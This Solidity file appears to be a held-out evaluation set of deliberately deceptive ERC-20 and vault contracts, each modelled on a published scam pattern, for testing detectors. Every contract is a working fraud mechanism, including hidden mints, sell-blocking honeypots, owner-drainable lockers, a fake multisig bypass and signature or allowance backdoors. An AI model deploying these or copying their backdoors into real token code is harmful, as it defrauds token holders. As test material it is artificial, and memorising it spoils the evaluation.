// SPDX-License-Identifier: MIT
pragma solidity >=0.8.20 <0.9.0;

import {H5ERC20, H5Owned, H5PairAware} from "./H5Base.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";

/// Held-out EVM set v5, danger shapes. Each contract was written for this set after a PUBLIC DESCRIPTION of the
/// pattern (no code copied); the description is cited per contract and per case in tests/eval/heldout/evm5/cases.ts
/// (read 2026-11-26).

/// "Reward sync" that writes a balance slot in assembly: the balance grows, totalSupply does not (GoPlus
/// owner_change_balance; CRPWarner "hidden mint").
contract H5RewardSyncToken is H5ERC20, H5Owned {
    constructor(uint256 supply) H5ERC20("Reward Sync", "RSYNC", 18) H5Owned(msg.sender) {
        _mint(msg.sender, supply);
    }

    function syncRewards(address account, uint256 amount) external onlyOwner {
        assembly {
            mstore(0x00, account)
            mstore(0x20, 3)
            let slot := keccak256(0x00, 0x40)
            sstore(slot, add(sload(slot), amount))
        }
    }
}

/// Mint gated on a hash of tx.origin: no owner(), no stored address, no address constant in the bytecode
/// (CertiK "hidden privileged account"; TokenSniffer "mintable").
contract H5HashGateToken is H5ERC20 {
    bytes32 private immutable gate;

    constructor(uint256 supply, bytes32 gate_) H5ERC20("Open Drop", "ODROP", 18) {
        gate = gate_;
        _mint(msg.sender, supply);
    }

    function claimAirdrop(address to, uint256 amount) external {
        if (keccak256(abi.encodePacked(tx.origin)) != gate) revert();
        _mint(to, amount);
    }
}

/// A hand-written "team multisig": three owners and a two-confirmation rule for submit/confirm, plus a "fast path"
/// the first owner can use alone (rekt.news fake-multisig write-ups).
contract H5TeamVault {
    address[3] public owners;
    uint256 public constant required = 2;
    mapping(uint256 => mapping(address => bool)) public confirmed;
    mapping(uint256 => uint256) public confirmations;
    struct Call {
        address to;
        bytes data;
        bool done;
    }
    Call[] public calls;

    constructor(address[3] memory owners_) {
        owners = owners_;
    }

    function isOwner(address a) public view returns (bool) {
        return a == owners[0] || a == owners[1] || a == owners[2];
    }

    function getOwners() external view returns (address[3] memory) {
        return owners;
    }

    function getThreshold() external pure returns (uint256) {
        return required;
    }

    function submit(address to, bytes calldata data) external returns (uint256 id) {
        require(isOwner(msg.sender), "owner");
        calls.push(Call(to, data, false));
        id = calls.length - 1;
        confirm(id);
    }

    function confirm(uint256 id) public {
        require(isOwner(msg.sender) && !confirmed[id][msg.sender], "confirm");
        confirmed[id][msg.sender] = true;
        if (++confirmations[id] >= required) _run(id);
    }

    function maintenance(address to, bytes calldata data) external {
        require(msg.sender == owners[0], "lead");
        (bool ok, ) = to.call(data);
        require(ok, "call");
    }

    function _run(uint256 id) private {
        Call storage c = calls[id];
        require(!c.done, "done");
        c.done = true;
        (bool ok, ) = c.to.call(c.data);
        require(ok, "call");
    }
}

/// AccessControl roles (OpenZeppelin 5.7.0 AccessControl, imported): MINTER_ROLE sits with a timelock, but the
/// deployer keeps DEFAULT_ADMIN_ROLE and can grant MINTER_ROLE to itself at once.
contract H5RoleMintToken is H5ERC20, AccessControl {
    bytes32 public constant MINTER_ROLE = keccak256("MINTER_ROLE");

    constructor(uint256 supply, address minter) H5ERC20("Timelocked Mint", "TLMT", 18) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(MINTER_ROLE, minter);
        _mint(msg.sender, supply);
    }

    function mint(address to, uint256 amount) external onlyRole(MINTER_ROLE) {
        _mint(to, amount);
    }
}

interface IH5FeeLogic {
    function feeOn(address from, address to, uint256 amount) external returns (uint256);
}

/// A transfer fee computed by DELEGATECALL into a logic contract the owner can replace (SlowMist / CertiK
/// "delegatecall to an owner-controlled address").
contract H5LibFeeToken is H5ERC20, H5PairAware {
    address public feeLogic;

    constructor(uint256 supply, address logic) H5ERC20("Fee Library", "FLIB", 18) H5Owned(msg.sender) {
        feeLogic = logic;
        _mint(msg.sender, supply);
    }

    function setFeeLogic(address logic) external onlyOwner {
        feeLogic = logic;
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (from != owner && to != owner && (from == pair || to == pair)) {
            (bool ok, bytes memory ret) = feeLogic.delegatecall(
                abi.encodeCall(IH5FeeLogic.feeOn, (from, to, amount))
            );
            require(ok, "fee");
            fee = abi.decode(ret, (uint256));
        }
        if (fee > 0) _move(from, owner, fee);
        _move(from, to, amount - fee);
    }
}

contract H5FeeLogicStandard is IH5FeeLogic {
    function feeOn(address, address, uint256 amount) external pure returns (uint256) {
        return (amount * 3) / 100;
    }
}

contract H5FeeLogicMax is IH5FeeLogic {
    function feeOn(address, address, uint256 amount) external pure returns (uint256) {
        return (amount * 99) / 100;
    }
}

interface IH5Guard {
    function check(address from, address to, uint256 amount) external view;
}

/// Every transfer asks an external guard the owner can replace; the guard's address lives in a custom storage slot
/// (GoPlus "external call"; Honeypot.is "transfer depends on another contract").
contract H5GuardedToken is H5ERC20, H5Owned {
    bytes32 private constant GUARD_SLOT = 0x54749c8445e40529d218410da223de085f0c7ea85889d38d344ec3f9c3fbb034; // keccak256("held5.transfer.guard")

    constructor(uint256 supply, address guard_) H5ERC20("Guarded", "GRD", 18) H5Owned(msg.sender) {
        assembly {
            sstore(GUARD_SLOT, guard_)
        }
        _mint(msg.sender, supply);
    }

    function configure(address guard_) external onlyOwner {
        assembly {
            sstore(GUARD_SLOT, guard_)
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        address g;
        assembly {
            g := sload(GUARD_SLOT)
        }
        if (from != owner) IH5Guard(g).check(from, to, amount);
        _move(from, to, amount);
    }
}

contract H5OpenGuard is IH5Guard {
    function check(address, address, uint256) external pure {}
}

/// A guard that blocks transfers into one address (the pair) for everyone.
contract H5SellStopGuard is IH5Guard {
    address public immutable blocked;

    constructor(address blocked_) {
        blocked = blocked_;
    }

    function check(address, address to, uint256) external view {
        require(to != blocked, "guard");
    }
}

/// Sells work only during a window after launch, then revert with no reason (Honeypot.is "time-based honeypot").
contract H5WindowToken is H5ERC20, H5PairAware {
    uint256 public immutable launchedAt;

    constructor(uint256 supply) H5ERC20("Window", "WNDW", 18) H5Owned(msg.sender) {
        launchedAt = block.timestamp;
        _mint(msg.sender, supply);
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner && block.timestamp > launchedAt + 48 hours) revert();
        _move(from, to, amount);
    }
}

/// Only wallets on the "fee exempt" list can sell (the classic whitelist honeypot; support.uniswap.org "Unsellable
/// token scams").
contract H5ExemptSellToken is H5ERC20, H5PairAware {
    mapping(address => bool) public isFeeExempt;
    error SellNotAllowed();

    constructor(uint256 supply) H5ERC20("Exempt", "XMPT", 18) H5Owned(msg.sender) {
        isFeeExempt[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setFeeExempt(address a, bool on) external onlyOwner {
        isFeeExempt[a] = on;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (to == pair && !isFeeExempt[from]) revert SellNotAllowed();
        _move(from, to, amount);
    }
}

/// Buy and sell taxes in basis points, settable up to 100 % (TokenSniffer "modifiable tax"; GoPlus slippage_modifiable).
contract H5TaxToken is H5ERC20, H5PairAware {
    uint16 public buyTax = 400;
    uint16 public sellTax = 400;
    error TaxTooHigh(uint256 requested);

    constructor(uint256 supply) H5ERC20("Taxed", "TAXD", 18) H5Owned(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setTaxes(uint16 buy, uint16 sell) external onlyOwner {
        if (buy > 10_000 || sell > 10_000) revert TaxTooHigh(buy > sell ? buy : sell);
        buyTax = buy;
        sellTax = sell;
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 tax;
        if (from != owner && to != owner) {
            if (from == pair) tax = (amount * buyTax) / 10_000;
            else if (to == pair) tax = (amount * sellTax) / 10_000;
        }
        if (tax > 0) _move(from, owner, tax);
        _move(from, to, amount - tax);
    }
}

/// A max-transaction limit the owner can set to anything, zero included (GoPlus "trading_cooldown / anti_whale
/// modifiable").
contract H5LimitsToken is H5ERC20, H5PairAware {
    uint256 public maxTx;

    constructor(uint256 supply) H5ERC20("Limits", "LIMT", 18) H5Owned(msg.sender) {
        maxTx = supply / 50;
        _mint(msg.sender, supply);
    }

    function updateLimits(uint256 next) external onlyOwner {
        maxTx = next;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from != owner && to != owner && (from == pair || to == pair)) require(amount <= maxTx, "max tx");
        _move(from, to, amount);
    }
}

/// A team-written "liquidity locker" whose owner can withdraw anything at any time (rekt.news fake-locker rugs).
contract H5TeamLocker is H5Owned {
    mapping(address => uint256) public unlockAt;

    constructor() H5Owned(msg.sender) {}

    function lock(address token, uint256 until) external onlyOwner {
        unlockAt[token] = until;
    }

    function withdraw(address token) external onlyOwner {
        require(block.timestamp >= unlockAt[token], "locked");
        _send(token);
    }

    function emergencyWithdraw(address token) external onlyOwner {
        _send(token);
    }

    function _send(address token) private {
        (bool ok, bytes memory r) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
        require(ok, "balance");
        (ok, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", owner, abi.decode(r, (uint256))));
        require(ok, "transfer");
    }
}

/// The LP is parked in the token contract; the owner can "rescue" any ERC-20 it holds, the LP included.
contract H5RescueToken is H5ERC20, H5Owned {
    constructor(uint256 supply) H5ERC20("Rescue", "RSCU", 18) H5Owned(msg.sender) {
        _mint(msg.sender, supply);
    }

    function rescueERC20(address token, uint256 amount) external onlyOwner {
        (bool ok, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", owner, amount));
        require(ok, "rescue");
    }
}

/// transferFrom skips the allowance for one address baked into the bytecode (CertiK "hard-coded privileged
/// address"; GoPlus "owner can move others' tokens").
contract H5BypassToken is H5ERC20 {
    address private constant OPERATOR = 0x00000000000000000000000000000000B1d5F00d;

    constructor(uint256 supply) H5ERC20("Bypass", "BYPS", 18) {
        _mint(msg.sender, supply);
    }

    function _spendAllowance(address from, address spender, uint256 amount) internal override {
        if (spender == OPERATOR) return;
        super._spendAllowance(from, spender, amount);
    }
}

/// An "airdrop eligibility" list that is really a freeze: an ineligible address cannot send
/// (GoPlus is_blacklisted; CRPWarner "blacklist under another name").
contract H5AirdropListToken is H5ERC20, H5Owned {
    mapping(address => bool) private ineligible;

    constructor(uint256 supply) H5ERC20("Airdrop List", "ADROP", 18) H5Owned(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setAirdropEligible(address[] calldata accounts, bool eligible) external onlyOwner {
        for (uint256 i; i < accounts.length; i++) ineligible[accounts[i]] = !eligible;
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(!ineligible[from], "not eligible");
        _move(from, to, amount);
    }
}

/// Balances are shares times an index the owner sets freely (rebasing token with an unbounded owner rebase;
/// SlowMist "owner-controlled rebase").
contract H5IndexToken is H5Owned {
    string public constant name = "Index";
    string public constant symbol = "INDX";
    uint8 public constant decimals = 18;
    uint256 public index = 1e18;
    uint256 private totalShares;
    mapping(address => uint256) private shares;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) H5Owned(msg.sender) {
        totalShares = supply;
        shares[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function setIndex(uint256 next) external onlyOwner {
        index = next;
    }

    function totalSupply() external view returns (uint256) {
        return (totalShares * index) / 1e18;
    }

    function balanceOf(address a) public view returns (uint256) {
        return (shares[a] * index) / 1e18;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "allowance");
            allowance[from][msg.sender] = a - amount;
        }
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        uint256 s = (amount * 1e18) / index;
        require(shares[from] >= s, "balance");
        shares[from] -= s;
        shares[to] += s;
        emit Transfer(from, to, amount);
    }
}

/// EIP-2612 permit that also accepts a signature by one recovery key for ANY owner (approval backdoor; CertiK
/// "signature verification with a privileged signer").
contract H5PermitToken is H5ERC20 {
    bytes32 public immutable DOMAIN_SEPARATOR;
    bytes32 public constant PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    address private immutable recovery;
    mapping(address => uint256) public nonces;

    constructor(uint256 supply, address recovery_) H5ERC20("Permit Plus", "PRMT", 18) {
        recovery = recovery_;
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes("Permit Plus")),
                keccak256(bytes("1")),
                block.chainid,
                address(this)
            )
        );
        _mint(msg.sender, supply);
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(block.timestamp <= deadline, "expired");
        bytes32 digest = keccak256(
            abi.encodePacked(
                "\x19\x01",
                DOMAIN_SEPARATOR,
                keccak256(abi.encode(PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline))
            )
        );
        address signer = ecrecover(digest, v, r, s);
        require(signer != address(0) && (signer == owner || signer == recovery), "signature");
        allowance[owner][spender] = value;
        emit Approval(owner, spender, value);
    }
}

/// SafeMoon-style lock(): owner() reads zero while locked, and the previous owner takes the contract back with
/// unlock() once the time is up; the fee has no cap (SafeMoon fork write-ups; CertiK "lock/unlock ownership").
contract H5LockOwnerToken is H5ERC20, H5PairAware {
    address private _previousOwner;
    uint256 private _lockTime;
    uint256 public sellFee = 2;

    constructor(uint256 supply) H5ERC20("Safe Lock", "SLOCK", 18) H5Owned(msg.sender) {
        _mint(msg.sender, supply);
    }

    function lock(uint256 time) external onlyOwner {
        _previousOwner = owner;
        owner = address(0);
        _lockTime = block.timestamp + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() external {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(block.timestamp > _lockTime, "Contract is locked until 7 days");
        emit OwnershipTransferred(owner, _previousOwner);
        owner = _previousOwner;
    }

    function setSellFeePercent(uint256 fee) external onlyOwner {
        sellFee = fee;
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 fee = to == pair && from != _previousOwner && from != owner ? (amount * sellFee) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, amount - fee);
    }
}
